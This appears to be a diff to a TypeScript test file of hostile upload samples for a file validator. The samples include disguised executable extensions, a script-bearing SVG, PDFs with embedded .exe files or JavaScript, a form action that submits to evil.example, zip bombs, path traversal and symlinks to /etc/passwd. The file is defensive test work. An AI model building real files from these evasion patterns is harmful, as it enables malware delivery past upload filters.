@@ -1,6 +1,7 @@
 import type { UploadPurpose } from '#src/model/file/rules.ts'
 import { zip } from '#src/mock/files/zip.ts'
-import { docxFile, joinBytes, jpg, pdf, png, pngChunk, textBytes, withDirectoryField } from '#tests/support/files.ts'
+import { docxFile, joinBytes, jpg, pdf, pdfOf, pdfPacked, png, pngChunk, textBytes } from '#tests/support/files.ts'
+import { archiveOf, nameField, type Part } from './archives.ts'
 
 export type Hostile = {
   what: string
@@ -18,12 +19,30 @@ const kinds = '只能上传'
 const signs = '文件名不能含有'
 const program = '文件名中含有程序'
 const active = '可执行的内容'
+const content = '不能有程序、宏、链接或加密'
+const broken = '不完整'
 
 /** An archive with one file of this name. */
 const holding = (what: string, entry: string, rule: string): Hostile => ({
   what: `archive with ${what}: ${entry}`,
   name: '材料.zip',
   bytes: archive(entry),
+  purpose: material,
+  rule,
+})
+
+const written = (what: string, part: Part, rule: string): Hostile => ({
+  what: `archive with ${what}`,
+  name: '材料.zip',
+  bytes: archiveOf([part]),
+  purpose: material,
+  rule,
+})
+
+const document = (what: string, bytes: Uint8Array<ArrayBuffer>, rule: string): Hostile => ({
+  what: `pdf with ${what}`,
+  name: '材料.pdf',
+  bytes,
   purpose: material,
   rule,
 })
@@ -53,6 +72,14 @@ const kindsOfFile: Hostile[] = [
   { what: 'a console of Windows', name: '证件.msc', bytes: textBytes('<?xml'), rule: program },
   { what: 'a disk called pdf', name: '证件.iso.pdf', bytes: pdf(), rule: program },
   { what: 'a virtual disk', name: '证件.vhdx', bytes: textBytes('vhdxfile'), rule: program },
+  { what: 'a saved page', name: '证件.mht.png', bytes: png(), rule: program },
+  { what: 'a sheet with macros', name: '证件.xlsb.png', bytes: png(), rule: program },
+  { what: 'a command of macOS', name: '证件.command.png', bytes: png(), rule: program },
+  { what: 'a starter of Linux', name: '证件.desktop.png', bytes: png(), rule: program },
+  { what: 'a folder that fetches', name: '证件.library-ms.png', bytes: png(), rule: program },
+  { what: 'a setting that runs', name: '证件.settingcontent-ms.png', bytes: png(), rule: program },
+  { what: 'a setting as it is', name: '证件.settingcontent-ms', bytes: textBytes('<a/>'), rule: '正确的后缀' },
+  { what: 'a kind that nobody asked for', name: '证件.gif', bytes: png(), rule: kinds },
   { what: 'svg with a script', name: '证件.svg', bytes: textBytes('<svg onload="alert(1)"/>'), rule: program },
   { what: 'svg called png', name: '证件.png', bytes: textBytes('<svg><script>1</script></svg>'), rule: kinds },
   { what: 'html called jpg', name: '证件.jpg', bytes: textBytes('<!doctype html><script>1</script>'), rule: kinds },
@@ -75,11 +102,11 @@ const contents: Hostile[] = [
     bytes: joinBytes(jpg(), new Uint8Array(5_000_001 - jpg().length)),
     rule: '不能超过 5 MB',
   },
-  { what: 'a picture cut off', name: '证件.png', bytes: png().slice(0, 40), rule: '不完整' },
-  { what: 'a jpg without an end', name: '证件.jpg', bytes: jpg().slice(0, -2), rule: '不完整' },
+  { what: 'a picture cut off', name: '证件.png', bytes: png().slice(0, 40), rule: broken },
+  { what: 'a jpg without an end', name: '证件.jpg', bytes: jpg().slice(0, -2), rule: broken },
   { what: '30,000 × 30,000', name: '证件.png', bytes: png(30_000, 30_000), rule: '4000 万像素' },
   { what: 'a jpg of 65,000 × 1,000', name: '证件.jpg', bytes: jpg(65_000, 1000), rule: '4000 万像素' },
-  { what: 'no width', name: '证件.png', bytes: png(0, 10), rule: '不完整' },
+  { what: 'no width', name: '证件.png', bytes: png(0, 10), rule: broken },
   {
     what: 'jpg with a php tail',
     name: '证件.jpg',
@@ -116,16 +143,16 @@ const contents: Hostile[] = [
   {
     what: 'pdf with files in it',
     name: '材料.pdf',
-    bytes: pdf('<</Names<</EmbeddedFiles 3 0 R>>>>'),
+    bytes: pdf('<</Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>>>5 0 obj<</F(a.exe)/EF<</F 6 0 R>>>>endobj'),
     purpose: material,
-    rule: active,
+    rule: '附带了其他文件',
   },
   {
     what: 'pdf with files in it, disguised',
     name: '材料.pdf',
-    bytes: pdf('<</Names<</Embedded#46ile#73 3 0 R>>>>'),
+    bytes: pdf('<</Names<</Embedded#46ile#73<</Names[(a)5 0 R]>>>>>>5 0 obj<</F(a.exe)/E#46<</F 6 0 R>>>>endobj'),
     purpose: material,
-    rule: active,
+    rule: '附带了其他文件',
   },
   {
     what: 'html before a pdf',
@@ -153,51 +180,73 @@ const contents: Hostile[] = [
     name: '材料.zip',
     bytes: archive('说明.exe'),
     purpose: material,
-    rule: '程序、宏或加密',
+    rule: content,
   },
   {
     what: 'archive with a page',
     name: '材料.zip',
     bytes: archive('a/index.html'),
     purpose: material,
-    rule: '程序、宏或加密',
+    rule: content,
   },
   {
     what: 'archive bomb',
     name: '材料.zip',
-    bytes: withDirectoryField(archive('a.txt'), 24, 4_000_000_000),
+    bytes: archiveOf([{ name: 'a.txt', method: 8, unpacked: 4_000_000_000 }]),
     purpose: material,
     rule: '解压后过大',
   },
   {
     what: 'archive of overlapping parts',
     name: '材料.zip',
-    bytes: withDirectoryField(archive('a.txt'), 20, 5_000_000),
+    bytes: archiveOf([{ name: 'a.txt' }, { name: 'a.txt', at: 0 }]),
     purpose: material,
-    rule: '解压后过大',
+    rule: broken,
   },
   {
     what: 'zip64',
     name: '材料.zip',
-    bytes: withDirectoryField(archive('a.txt'), 24, 0xffffffff),
+    bytes: archiveOf([{ name: 'a.txt', unpacked: 0xffffffff }]),
     purpose: material,
-    rule: '不完整',
+    rule: broken,
   },
   {
     what: 'archive with a tail',
     name: '材料.zip',
     bytes: joinBytes(archive('a.txt'), textBytes('<script>')),
     purpose: material,
-    rule: '不完整',
+    rule: broken,
   },
+  written('a name that its own head says otherwise', { name: '说明.txt', own: { name: '说明.exe' } }, broken),
+  written('a second name that is a program', { name: '说明.txt', extra: nameField('说明.exe') }, content),
+  written('a second name that leads out', { name: '说明.txt', extra: nameField('../说明.txt') }, '路径不合规'),
+  written('a second name that is an archive', { name: '说明.txt', extra: nameField('说明.zip') }, '压缩包内还有压缩包'),
+  written('a link', { name: '说明.txt', body: '/etc/passwd', attributes: 0xa1ff0000 }, content),
+  written('a link of Windows', { name: '说明.txt', attributes: 0x420 }, content),
+  written('an encrypted file', { name: '说明.txt', flags: 1 }, content),
+  document('a program in its packed objects', pdfOf(pdfPacked('<</S/JavaScript/JS(1)>>')), active),
+  document('a form that sends', pdf('2 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'), active),
+  document('another document that it opens', pdf('2 0 obj<</S/GoToR/F(b.pdf)>>endobj'), active),
+  document('a form that is a program', pdf('2 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj'), active),
+  document('objects that cannot be read', pdfOf(pdfPacked('<<>>', '/First 4/Filter/LZWDecode')), '无法检查'),
 ]
 
 const programs = ['a.exe.', 'a.exe ', 'a.exe. .', 'a.ps1\u00A0', 'a.pif', 'a.chm', 'a.msc', 'a.iso', 'a.LNK', 'a.scr']
 const moreOfThem = ['a.hta', 'a.img', 'a.vhd', 'a.vhdx', 'a.url', 'a.xll', 'a.pptm', 'dir/a.js .']
+const noFileOfTheirs = [
+  'a.library-ms',
+  'a.mht',
+  'a.xlsb',
+  'a.command',
+  'a.desktop',
+  'a.settingcontent-ms',
+  'a.xml',
+  'run',
+]
 const nested = ['a.zip', 'b/内层.ZIP', 'a.rar', 'a.7z', 'a.tar.gz', 'a.tgz', 'a.cab', 'a.zip.', 'a.part.r01', 'a.z01']
 
 const entries: Hostile[] = [
-  ...[...programs, ...moreOfThem].map((entry) => holding('a program', entry, '程序、宏或加密')),
+  ...[...programs, ...moreOfThem, ...noFileOfTheirs].map((entry) => holding('a program', entry, content)),
   ...nested.map((entry) => holding('an archive', entry, '压缩包内还有压缩包')),
   ...['a/.. /b.txt', '... /b.txt', 'a/. ./b.txt'].map((entry) => holding('a way out', entry, '路径不合规')),
 ]
